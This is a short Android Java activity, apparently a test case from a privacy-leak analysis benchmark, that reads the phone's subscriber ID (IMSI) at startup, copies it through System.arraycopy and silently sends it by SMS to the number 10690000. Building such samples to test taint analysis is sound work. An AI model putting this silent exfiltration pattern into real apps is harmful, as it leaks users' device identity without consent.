package cn.privlens.suite.array_copy;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String[] from = {"a", "b"};
        String[] to = new String[2];
        from[1] = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
        System.arraycopy(from, 0, to, 0, 2);
        SmsManager.getDefault().sendTextMessage("10690000", null, to[1], null, null);
    }
}
